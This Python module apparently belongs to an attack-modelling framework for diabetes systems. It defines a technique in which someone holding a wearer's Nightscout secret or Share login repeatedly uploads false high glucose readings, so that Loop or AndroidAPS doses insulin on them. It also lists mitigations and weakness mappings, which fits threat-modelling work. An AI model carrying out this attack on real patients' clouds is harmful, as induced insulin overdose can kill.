"""Falsify glucose in the cloud: store readings as if the wearer's sensor had sent them.

An app that takes its glucose from a cloud doses on whatever stands there. What follows is bounded
by the app's own limits on rates, boluses and insulin on board, never by the cloud.
"""

from __future__ import annotations

from banting.attacks.app_sources import (
    AAPS_IMPORTS,
    LOOP_CLOUD_CGM,
    NIGHTSCOUT_API,
    SHARE_UPLOAD,
)
from banting.attacks.cloud_aims import (
    FALSE_GLUCOSE_AFTER_MS,
    FALSE_GLUCOSE_EVERY_MS,
    FALSE_GLUCOSE_READINGS,
    asked_in_words,
    false_high,
)
from banting.attacks.cloud_talk import NIGHTSCOUT, SHARE, ask_service, log_in
from banting.interfaces import Grip, Program, Wait
from banting.schema.facts import Fact, Rule, goal_fact
from banting.schema.question import Goal
from banting.schema.verdict import TechniqueShown

__all__ = ["CLOUD_GLUCOSE", "FalsifyInCloud"]

_NIGHTSCOUT = frozenset(
    {Fact("reach.internet"), Fact("knows.api-secret"), Fact("nightscout.in-use")}
)
_SHARE = frozenset({Fact("reach.internet"), Fact("knows.share-login"), Fact("share.in-use")})


def _rule(name: str, needs: frozenset[Fact], reads: str, says: str) -> Rule:
    return Rule(
        id=name,
        technique="falsify-in-cloud",
        needs=needs | {Fact(reads)},
        gives=goal_fact(Goal.G6),
        says=says,
    )


class FalsifyInCloud:
    """Readings written into the cloud that the app reads."""

    shown = TechniqueShown(
        id="falsify-in-cloud",
        title="Falsify glucose in the cloud",
        what="whoever may write to the cloud that an app takes its glucose from stores high "
        "readings there, and the loop doses on them",
        stop_it="let the app take glucose from the sensor itself; else use a password that is "
        "used nowhere else, and keep the Nightscout secret among very few",
        cwe=("CWE-345", "CWE-522"),
        cve=(),
        emb3d=("TID-406",),
        attack_ics=("T0856", "T0859", "T0832"),
        sources=(LOOP_CLOUD_CGM, NIGHTSCOUT_API, SHARE_UPLOAD, AAPS_IMPORTS),
    )
    rules: tuple[Rule, ...] = (
        _rule(
            "false-glucose-nightscout",
            _NIGHTSCOUT,
            "phone.cgm-from-nightscout",
            "store high readings on the Nightscout site that the app doses on",
        ),
        _rule(
            "false-glucose-aaps",
            _NIGHTSCOUT,
            "aaps.imports-glucose",
            "store high readings on the Nightscout site that AndroidAPS takes in",
        ),
        _rule(
            "false-glucose-share",
            _SHARE,
            "phone.cgm-from-share",
            "upload high readings to the sensor maker's cloud with the wearer's login",
        ),
    )

    def perform(self, rule: Rule, grip: Grip) -> Program:
        """Wait for the hour, then store readings so often that the newest is always false."""
        if rule.id == "false-glucose-share":
            name, held = SHARE, {"share-login": grip.knows("share-login")}
        else:
            name, held = NIGHTSCOUT, {"api-secret": grip.knows("api-secret")}
        yield Wait(until_ms=grip.strike_ms)
        if name == SHARE:
            held = yield from log_in(grip, SHARE, held)
        stored, next_ms = 0, grip.strike_ms + FALSE_GLUCOSE_AFTER_MS
        while stored < FALSE_GLUCOSE_READINGS and next_ms < grip.until_ms:
            yield Wait(until_ms=next_ms)
            yield from ask_service(grip, name, false_high(), held)
            stored += 1
            next_ms += FALSE_GLUCOSE_EVERY_MS
        return f"{name} stored {asked_in_words(false_high())} {stored} times"


CLOUD_GLUCOSE = FalsifyInCloud()
